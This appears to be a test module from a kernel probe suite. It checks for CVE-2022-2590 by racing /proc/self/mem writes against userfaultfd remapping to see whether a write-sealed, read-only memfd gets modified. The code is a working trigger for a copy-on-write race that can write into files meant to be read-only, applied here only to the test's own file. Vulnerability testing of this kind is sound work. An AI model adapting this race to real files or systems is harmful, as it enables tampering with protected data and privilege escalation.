# SPDX-License-Identifier: GPL-2.0-only
"""CVE-2022-2590: a FOLL_FORCE write through /proc/self/mem lands in a read-only shmem file.

The file is a memfd sealed against writes, mapped MAP_PRIVATE and PROT_READ, registered for MINOR faults.
One thread writes the mapping through /proc/self/mem (FOLL_FORCE): each write breaks COW, and the data
must go to the private anonymous copy. Another thread zaps the range (MADV_DONTNEED) and maps the file's
pages back with UFFDIO_CONTINUE, which since 9ae0f87d009c installs them read-only but dirty. Before
5535be309971, GUP trusted a dirty read-only PTE once it had broken COW (FOLL_COW): a zap and a CONTINUE
between the COW break and GUP's retried lookup hand it the page cache page, and the write changes the
file. The verdict is the file's content read back with pread() after every try: a changed byte is LEAK
(the write crossed the COW boundary), with the bytes expected and seen.
"""

import fcntl
import os
import threading
import time
from typing import Any, Dict, Optional

from uffdprobe.uffd import memory
from uffdprobe.uffd.errors import UffdError
from uffdprobe.uffd.flags import RegisterMode
from uffdprobe.uffd.memory import MEMFD, MMAN, PAGE_SIZE
from uffdprobe.verdicts import Outcome, Verdict
from .common import Bounded
from .context import ScenarioContext
from .minor_continue import minor_shmem_uffd
from .racy import repeat

#: --param defaults: the file's pages raced per write, and how long one try races before the file is read.
DEFAULTS = {"pages": 16, "try_s": 0.5}
#: What the file holds (sealed) and what the FOLL_FORCE writes put in the private mapping.
FILE_BYTES = b"read-only file. "
FORCED_BYTES = b"FOLL_FORCE wrote"


def _sealed_file(length: int) -> int:
    """A memfd holding FILE_BYTES over `length` bytes, sealed against writes and resizing."""
    fd = memory.memfd_create("uffdprobe-foll-force-cow", MEMFD["MFD_CLOEXEC"] | MEMFD["MFD_ALLOW_SEALING"])
    try:
        os.pwrite(fd, FILE_BYTES * (length // len(FILE_BYTES)), 0)
        seals = fcntl.F_SEAL_WRITE | fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW | fcntl.F_SEAL_SEAL
        fcntl.fcntl(fd, fcntl.F_ADD_SEALS, seals)
    except BaseException:
        os.close(fd)
        raise
    return fd


def _first_change(expected: bytes, seen: bytes) -> Dict[str, Any]:
    """Where `seen` first differs from `expected`, 16 bytes of each from there, and how many bytes differ."""
    at = next(i for i, (a, b) in enumerate(zip(expected, seen)) if a != b)
    start = at - at % len(FILE_BYTES)
    return {
        "offset": at,
        "page": at // PAGE_SIZE,
        "expected": expected[start : start + 16].decode(errors="replace"),
        "seen": seen[start : start + 16].decode(errors="replace"),
        "bytes_changed": sum(a != b for a, b in zip(expected, seen)),
    }


def run(ctx: ScenarioContext) -> Outcome:
    """Race /proc/self/mem writes against MADV_DONTNEED + UFFDIO_CONTINUE; LEAK if the sealed file changes."""
    uffd = minor_shmem_uffd()
    length = int(ctx.params.get("pages", DEFAULTS["pages"])) * PAGE_SIZE
    try_s = float(ctx.params.get("try_s", DEFAULTS["try_s"]))
    fd = _sealed_file(length)
    expected = os.pread(fd, length, 0)
    readonly = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_CLOEXEC)
    try:
        area = memory.mmap_fd(readonly, length, shared=False, prot=MMAN["PROT_READ"])
    finally:
        os.close(readonly)
    uffd.register(area.addr, length, RegisterMode.MINOR)
    ctx.hand_over(uffd, area.addr, length, rescue="unregister")
    mem = os.open("/proc/self/mem", os.O_RDWR | os.O_CLOEXEC)
    forced = FORCED_BYTES * (length // len(FORCED_BYTES))
    counts = {"writes": 0, "write_errors": 0, "zaps": 0, "continued": 0, "continue_errors": 0}
    evidence: Dict[str, Any] = {"pages": length // PAGE_SIZE, "try_s": try_s, "counts": counts}

    uffd.continue_(area.addr, length)  # the file's pages mapped read-only: the first writes break COW
    os.pwrite(mem, forced, area.addr)
    evidence["private_copy_after_first_write"] = area.read(0, 16).decode(errors="replace")

    def remap(stop: threading.Event) -> None:
        while not stop.is_set():
            memory.madvise(area.addr, length, "MADV_DONTNEED")
            counts["zaps"] += 1
            try:
                counts["continued"] += uffd.continue_(area.addr, length)
            except UffdError:  # not seen: the writer cannot map a zapped page (its fault is SIGBUS)
                counts["continue_errors"] += 1

    def trigger(attempt: int) -> Optional[Outcome]:
        stop = threading.Event()
        zapper = Bounded(lambda: remap(stop), "zap-continue")
        end = time.monotonic() + try_s
        try:
            while time.monotonic() < end:
                try:
                    os.pwrite(mem, forced, area.addr)
                    counts["writes"] += 1
                except OSError:  # EIO: a page zapped, not yet mapped back (GUP cannot wait on a MINOR fault)
                    counts["write_errors"] += 1
        finally:
            stop.set()
            if not zapper.done(10.0):
                raise RuntimeError("the zap-and-CONTINUE thread did not stop within 10 s")
        if zapper.error is not None:  # a race with one side gone asks nothing
            raise zapper.error
        seen = os.pread(fd, length, 0)
        if seen == expected:
            return None
        change = _first_change(expected, seen)
        return Outcome(
            Verdict.LEAK,
            f"the write-sealed file changed: a /proc/self/mem write to its read-only MAP_PRIVATE mapping landed "
            f"in the page cache (offset {change['offset']}: expected {change['expected']!r}, "
            f"seen {change['seen']!r})",
            {**evidence, "corrupted": change},
        )

    try:
        outcome = repeat(ctx, trigger)
    finally:
        os.close(mem)
        uffd.unregister(area.addr, length)
        area.close()
        os.close(fd)
    if outcome.verdict is Verdict.PASS:
        outcome.evidence.update(evidence)
    return outcome
